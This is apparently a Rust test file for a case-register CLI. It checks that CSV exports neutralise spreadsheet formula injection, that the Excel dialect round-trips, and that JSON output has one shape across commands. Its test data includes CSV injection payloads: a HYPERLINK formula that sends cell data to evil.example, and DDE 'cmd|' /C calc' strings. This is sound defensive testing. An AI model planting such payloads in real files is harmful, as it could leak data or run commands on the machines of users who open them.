//! CSV that spreadsheets open cleanly and safely. Formula-like text in every
//! text column round-trips byte for byte; no CSV the tool writes has a cell that starts
//! like a formula; `--excel` (BOM, `;`) is read back by every import; one JSON shape of a
//! case, and of a hearing, across commands.

use crate::common::{COLUMNS, TestEnv, csv_records, write};
use std::collections::BTreeMap;

/// Text a spreadsheet would run as a formula (OWASP's list), and text that already starts
/// with the mark the neutralising puts in front.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+62 812 3456 7890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''=twice",
    "'Laporan' (a quote typed by hand)",
];

/// The documented rule, written here from the README and not taken from src/: a cell that
/// starts with `=`, `+`, `-`, `@`, tab or carriage return, unless it is a plain number,
/// and a cell that starts with `'`, get a `'` in front.
fn neutral(s: &str) -> String {
    let number = {
        let d = s.strip_prefix('-').unwrap_or(s);
        let mut parts = d.splitn(2, ['.', ',']);
        let whole = parts.next().unwrap_or("");
        let ok = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
        ok(whole) && parts.next().is_none_or(ok)
    };
    match s.chars().next() {
        Some('\'') => format!("'{s}"),
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !number => format!("'{s}"),
        _ => s.to_string(),
    }
}

/// Whether a cell would start a formula in a spreadsheet.
fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && neutral(cell) != cell
}

/// A CSV as written (the header included), with `;` or `,` between fields; a BOM taken
/// off first.
fn records(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let first = text.lines().next().unwrap_or("");
    let sep = if first.matches(';').count() > first.matches(',').count() {
        b';'
    } else {
        b','
    };
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(sep)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// A register CSV row from raw values, neutralised as the tool writes it.
fn csv_row(cells: &[String]) -> String {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(vec![]);
    w.write_record(cells.iter().map(|c| neutral(c))).unwrap();
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

/// One case per formula, each formula in every text column of the register CSV (the
/// register number, the applicant, the body, the subject, the decision's number), as the
/// tool would write the file.
fn formula_register() -> (String, Vec<Vec<String>>) {
    let mut text = csv_row(&COLUMNS.map(String::from));
    let mut raw = Vec::new();
    for (i, f) in FORMULAS.iter().enumerate() {
        let n = i + 1;
        let mut row = vec![String::new(); 15];
        row[0] = format!("{f} {n:03}/II/KI-JBI-PS/2020");
        row[1] = format!("2020-02-{:02}", n + 2);
        row[2] = format!("{f} applicant");
        row[3] = "individual".into();
        row[4] = format!("{f} body");
        row[5] = format!("{f} subject");
        if n % 2 == 0 || n == 7 {
            row[6] = format!("2020-03-{:02}", n + 2);
            row[10] = format!("2020-05-{:02}", 4 * n);
            row[11] = "adjudication".into();
            row[12] = "granted".into();
            row[13] = format!("{f} decision");
        }
        text.push_str(&csv_row(&row));
        raw.push(row);
    }
    (text, raw)
}

/// A register holding the formula cases, a case still open with hearings whose room,
/// panel and reason are formulas, a step noted and acted by formulas, and a calendar day
/// named by formulas.
fn formula_env() -> (TestEnv, String, Vec<Vec<String>>) {
    let env = TestEnv::initialised();
    let (text, raw) = formula_register();
    env.ok(&["import", write(&env, "formulas.csv", &text)]);
    let open = env.ok(&[
        "case",
        "add",
        "--received",
        "2026-11-02",
        &format!("--applicant={}", FORMULAS[0]),
        &format!("--body={}", FORMULAS[2]),
        &format!("--subject={}", FORMULAS[3]),
        &format!("--note={}", FORMULAS[2]),
        &format!("--actor={}", FORMULAS[3]),
    ]);
    let open = open.trim().to_string();
    env.ok(&[
        "hearing",
        "schedule",
        &open,
        "--on",
        "2026-12-01",
        "--at",
        "09:00",
        "--kind",
        "preliminary",
        &format!("--room={}", FORMULAS[0]),
        &format!("--panel={}", FORMULAS[1]),
    ]);
    env.ok(&[
        "hearing",
        "schedule",
        &open,
        "--on",
        "2026-12-02",
        "--kind",
        "mediation",
    ]);
    env.ok(&[
        "hearing",
        "cancel",
        &open,
        "2",
        &format!("--reason={}", FORMULAS[2]),
    ]);
    env.ok(&[
        "calendar",
        "add",
        "2026-12-28",
        "--kind",
        "office_closure",
        &format!("--name={}", FORMULAS[0]),
        &format!("--name-en={}", FORMULAS[1]),
        &format!("--source={}", FORMULAS[3]),
    ]);
    (env, text, raw)
}

#[test]
fn formulas_in_every_text_column_round_trip_byte_for_byte() {
    let env = TestEnv::initialised();
    let (text, raw) = formula_register();
    env.ok(&["import", write(&env, "formulas.csv", &text)]);
    // Stored as given: the mark is the CSV's, not the register's.
    let cases = env.cases();
    for (c, row) in cases.iter().zip(&raw) {
        for (k, v) in COLUMNS.iter().zip(row) {
            if ["register_no", "applicant", "public_body", "subject"].contains(k)
                || (*k == "decision_no" && !v.is_empty())
            {
                assert_eq!(c[*k], v.as_str(), "{k}");
            }
        }
    }
    // export -> import -> export: the same bytes, and the file imported is the export.
    let first = env.ok(&["export"]);
    assert_eq!(first, text);
    assert!(
        first.contains("\"'=HYPERLINK(\"\"http://evil.example"),
        "{first}"
    );
    let again = TestEnv::initialised();
    again.ok(&["import", write(&again, "export.csv", &first)]);
    assert_eq!(again.ok(&["export"]), first);
    // And in the spreadsheet dialect: the same round trip, the same register.
    let excel = env.ok(&["export", "--excel"]);
    let third = TestEnv::initialised();
    third.ok(&["import", write(&third, "excel.csv", &excel)]);
    assert_eq!(third.ok(&["export", "--excel"]), excel);
    assert_eq!(third.ok(&["export"]), first);
}

#[test]
fn hearings_and_calendar_days_with_formulas_round_trip() {
    let (env, _, _) = formula_env();
    // Hearings: into a register holding the same cases, no hearings yet.
    let hearings = env.ok(&["hearings", "export"]);
    assert!(hearings.contains("\"'=HYPERLINK"), "{hearings}");
    let other = TestEnv::initialised();
    other.ok(&["import", write(&other, "cases.csv", &env.ok(&["export"]))]);
    other.ok(&["hearings", "import", write(&other, "h.csv", &hearings)]);
    assert_eq!(other.ok(&["hearings", "export"]), hearings);
    let excel = env.ok(&["hearings", "export", "--excel"]);
    let third = TestEnv::initialised();
    third.ok(&["import", write(&third, "cases.csv", &env.ok(&["export"]))]);
    third.ok(&["hearings", "import", write(&third, "h.csv", &excel)]);
    assert_eq!(third.ok(&["hearings", "export"]), hearings);
    // Calendar days: listed, imported into another register, listed again.
    let days = env.ok(&["calendar", "list", "--year", "2026", "--format", "csv"]);
    assert!(
        days.contains("2026-12-28,office_closure,\"'=HYPERLINK"),
        "{days}"
    );
    for (name, text) in [
        ("days.csv", days.clone()),
        (
            "days-excel.csv",
            env.ok(&["calendar", "list", "--year", "2026", "--excel"]),
        ),
    ] {
        let other = TestEnv::initialised();
        other.ok(&["calendar", "import", write(&other, name, &text)]);
        let again = other.ok(&["calendar", "list", "--year", "2026", "--format", "csv"]);
        assert_eq!(again, days, "{name}");
    }
}

/// Every CSV the tool writes, in both dialects, on a register full of formulas.
fn every_csv(env: &TestEnv, open: &str) -> BTreeMap<String, String> {
    let mut all = BTreeMap::new();
    let views: [&[&str]; 9] = [
        &[],
        &["--by", "body"],
        &["--by", "body-kind"],
        &["--appeals"],
        &["--by", "outcome"],
        &["--flow"],
        &["--times"],
        &["--oldest"],
        &["--oldest", "3", "--as-of", "2020-04-01"],
    ];
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["export"],
        vec!["hearings", "export"],
        vec!["case", "list", "--format", "csv"],
        vec!["case", "list", "--overdue", "--format", "csv"],
        vec!["case", "show", open, "--format", "csv"],
        vec!["agenda", "--on", "2026-11-30", "--format", "csv"],
        vec!["calendar", "list", "--year", "2026", "--format", "csv"],
        vec!["appeals", "export"],
        vec!["body", "list", "--format", "csv"],
        vec!["body", "show", "--format", "csv", "--", FORMULAS[2]],
    ];
    for v in views {
        commands.push([&["recap", "--format", "csv"], v].concat());
    }
    for cmd in commands {
        all.insert(cmd.join(" "), env.ok(&cmd));
        // --excel before a `--` that ends the flags
        let excel = match cmd.iter().position(|a| *a == "--") {
            Some(i) => [&cmd[..i], &["--excel"], &cmd[i..]].concat(),
            None => [cmd.clone(), vec!["--excel"]].concat(),
        };
        let text = env.ok(&excel);
        assert!(text.starts_with('\u{feff}'), "{excel:?}: no BOM");
        all.insert(excel.join(" "), text);
    }
    all
}

#[test]
fn no_cell_of_any_csv_the_tool_writes_starts_like_a_formula() {
    let (env, _, _) = formula_env();
    let open = env.cases().last().unwrap()["register_no"]
        .as_str()
        .unwrap()
        .to_string();
    let mut files = every_csv(&env, &open);
    // The demo's files too.
    env.ok(&["demo", "--write-fixtures", "fixtures"]);
    for name in ["jambi-2017-2018.csv", "table1-published.csv"] {
        let text = std::fs::read_to_string(env.dir().join("fixtures").join(name)).unwrap();
        files.insert(format!("demo {name}"), text);
    }
    let mut neutralised = 0;
    for (what, text) in &files {
        let rows = records(text);
        assert!(!rows.is_empty(), "{what}: not even a header\n{text}");
        for (i, row) in rows.iter().enumerate() {
            for cell in row {
                assert!(
                    !starts_like_a_formula(cell),
                    "{what}, record {i}: {cell:?} starts like a formula"
                );
                neutralised += FORMULAS.iter().any(|f| cell.starts_with(&neutral(f))) as usize;
            }
        }
    }
    // The formulas are there, neutralised, in the outputs that show free text.
    for what in [
        "export",
        "hearings export",
        "case list --format csv",
        &format!("case show {open} --format csv"),
        "agenda --on 2026-11-30 --format csv",
        "calendar list --year 2026 --format csv",
        "recap --format csv --by body",
        "recap --format csv --oldest",
    ] {
        let text = &files[what];
        assert!(
            FORMULAS.iter().any(|f| text.contains(&neutral(f))),
            "{what}: no formula to neutralise\n{text}"
        );
    }
    assert!(neutralised > 50, "{neutralised} neutralised cells");
}

#[test]
fn excel_is_a_bom_and_semicolons_and_a_decimal_comma() {
    let (env, _, _) = formula_env();
    let plain = env.ok(&["export"]);
    let excel = env.ok(&["export", "--excel"]);
    assert!(excel.starts_with("\u{feff}register_no;received_on;applicant;"));
    assert_eq!(records(&excel), csv_records(&plain), "the same cells");
    // A measure with a fraction has a decimal comma (Indonesian regional settings).
    let times = env.ok(&["recap", "--times", "--excel"]);
    assert!(
        times.starts_with("\u{feff}year;route;ended;median;mean;"),
        "{times}"
    );
    let plain_times = env.ok(&["recap", "--times", "--format", "csv"]);
    let fractions: Vec<(String, String)> = records(&times)
        .concat()
        .into_iter()
        .zip(csv_records(&plain_times).concat())
        .filter(|(_, p)| p.contains('.') && p.parse::<f64>().is_ok())
        .collect();
    assert!(!fractions.is_empty(), "{plain_times}");
    for (e, p) in fractions {
        assert_eq!(e, p.replace('.', ","));
    }
    // --excel is CSV: with another format it is a usage error.
    for args in [
        &["export", "--excel", "--format", "json"][..],
        &["case", "list", "--excel", "--format", "table"],
        &["recap", "--excel", "--format", "md"],
        &["agenda", "--excel", "--format", "ics"],
    ] {
        let out = env.run(args);
        assert_eq!(out.code, 2, "{args:?}\n{}", out.snapshot());
        assert!(out.stderr.contains("--excel"), "{}", out.stderr);
        assert_eq!(out.stdout, "");
    }
}

#[test]
fn a_header_that_does_not_match_names_the_separator_seen() {
    let env = TestEnv::initialised();
    let semis = write(&env, "semis.csv", "register_no;received_on;applicant\n");
    let out = env.run(&["import", semis]);
    assert_eq!(out.code, 3, "{}", out.snapshot());
    insta::assert_snapshot!(out.stderr, @"
    error: semis.csv: the header has no column 4 ('applicant_kind') (the header was read with a semicolon (;) between fields)
    hint: the first line must be the header: register_no,received_on,applicant,applicant_kind,public_body,subject,qualified_on,not_qualified_on,not_qualified_reason,withdrawn_on,decided_on,decision_via,decision_outcome,decision_no,closed_on (with , or ; between fields)
    ");
    // A tab-separated file is read with commas, and says so.
    let tabs = write(&env, "tabs.csv", &format!("{}\n", COLUMNS.join("\t")));
    let out = env.run(&["import", tabs]);
    assert_eq!(out.code, 3, "{}", out.snapshot());
    assert!(
        out.stderr
            .contains("(the header was read with a comma (,) between fields)"),
        "{}",
        out.stderr
    );
    let mut id = env.command();
    id.args(["import", semis, "--lang", "id"]);
    let out = env.run_command(id);
    assert!(out.stderr.contains("titik koma (;)"), "{}", out.stderr);
}

#[test]
fn case_list_show_and_export_write_one_json_shape() {
    let (env, _, _) = formula_env();
    let list: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["case", "list", "--format", "json"])).unwrap();
    let export: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["export", "--format", "json"])).unwrap();
    assert_eq!(list, export, "the same objects, key for key");
    for c in &list {
        assert_eq!(c["schema_version"], 1);
        let no = c["register_no"].as_str().unwrap();
        let show: serde_json::Value =
            serde_json::from_str(&env.ok(&["case", "show", "--format", "json", "--", no])).unwrap();
        let show = show.as_object().unwrap();
        let case = c.as_object().unwrap();
        // `case show` is the case's shape, then its timeline, hearings, lapse flag and
        // the papers issued.
        let keys: Vec<&String> = show.keys().collect();
        assert_eq!(
            keys[..case.len()],
            case.keys().collect::<Vec<_>>()[..],
            "{no}"
        );
        assert_eq!(
            keys[case.len()..],
            [
                "served_on",
                "appeals",
                "finality",
                "timeline",
                "hearings",
                "may_lapse",
                "papers"
            ]
        );
        for (k, v) in case {
            assert_eq!(&show[k], v, "{no} {k}");
        }
    }
    // A hearing: the same object in `case show` and in the agenda.
    let open = list.last().unwrap()["register_no"].as_str().unwrap();
    let show: serde_json::Value =
        serde_json::from_str(&env.ok(&["case", "show", open, "--format", "json"])).unwrap();
    let agenda: serde_json::Value =
        serde_json::from_str(&env.ok(&["agenda", "--on", "2026-11-30", "--format", "json"]))
            .unwrap();
    assert_eq!(agenda["schema_version"], 1);
    let in_agenda: Vec<&serde_json::Value> = agenda["hearings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| &h["hearing"])
        .collect();
    let in_show: Vec<&serde_json::Value> = show["hearings"].as_array().unwrap().iter().collect();
    assert_eq!(in_agenda.len(), 2, "{agenda}");
    assert_eq!(in_agenda, in_show);
    assert_eq!(
        in_show[0].as_object().unwrap().keys().collect::<Vec<_>>(),
        [
            "register_no",
            "hearing_no",
            "kind",
            "first_on",
            "on_date",
            "at",
            "room",
            "panel",
            "status",
            "applicant",
            "respondent",
            "reason",
            "postponements"
        ]
    );
    assert_eq!(agenda["hearings"][0]["applicant"], FORMULAS[0]);
}
